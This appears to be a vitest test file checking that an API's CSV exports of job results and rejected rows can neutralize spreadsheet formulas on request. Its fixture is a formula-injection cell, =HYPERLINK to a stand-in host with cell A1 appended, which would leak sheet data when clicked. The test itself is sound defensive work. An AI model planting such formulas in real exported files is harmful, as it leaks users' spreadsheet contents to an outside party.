import { afterAll, beforeAll, expect, test } from "vitest";
import { openTestApi, type TestApi } from "@/lib/testing/test-api";

let api: TestApi;
beforeAll(async () => {
  api = await openTestApi();
});
afterAll(() => api?.close());

const LINK = '=HYPERLINK("http://elsewhere.test?"&A1)';
const LINK_CELL = `"${LINK.replaceAll('"', '""')}"`;

test("results and rejects are given as they are, and without formulas when that is asked", async () => {
  const file = `text,=n\n${LINK_CELL},-1\n@broken\n`;
  const made = await api.upload(file, "formulas.csv");
  await api.settle();
  const [connection] = (await api.call("GET", "/v1/connections")).body.data;
  const job = await api.call("POST", "/v1/jobs", {
    body: {
      ...{ name: "Formulas", datasetId: made.body.id, connectionId: connection.id },
      ...{ model: "gpt-4o-mini", request: { prompt: "Say {{text}}", maxOutputTokens: 99 } },
      ...{ strategy: { type: "static" }, autoApprove: true },
    },
  });
  await api.settle();
  const ask = async (target: string) => (await api.call("GET", `/v1${target}`)).body as string;
  const results = `/jobs/${job.body.id}/results`;
  const rejects = `/datasets/${made.body.id}/rejects.csv`;

  for (const plain of [`${results}?format=csv`, `${results}?format=csv&neutralize=false`]) {
    expect(await ask(plain)).toMatch(/^text,=n,tranche_status/);
    expect(await ask(plain)).toContain(`\n${LINK_CELL},-1,succeeded,`);
  }
  const neutral = await ask(`${results}?format=csv&neutralize=true`);
  expect(neutral).toMatch(/^text,'=n,tranche_status/);
  expect(neutral).toContain(`\n"'${LINK_CELL.slice(1)},'-1,succeeded,`);
  expect(await ask(`${results}?neutralize=true`)).toEqual(await ask(results));

  expect(await ask(rejects)).toContain('"3","wrong_field_count');
  expect(await ask(rejects)).toContain(',"@broken"');
  expect(await ask(`${rejects}?neutralize=true`)).toContain(`,"'@broken"`);

  for (const target of [`${results}?format=csv&neutralize=1`, `${rejects}?neutralize=yes`]) {
    const refused = await api.call("GET", `/v1${target}`);
    expect([refused.status, refused.body.error.details]).toEqual([400, { field: "neutralize" }]);
  }
});
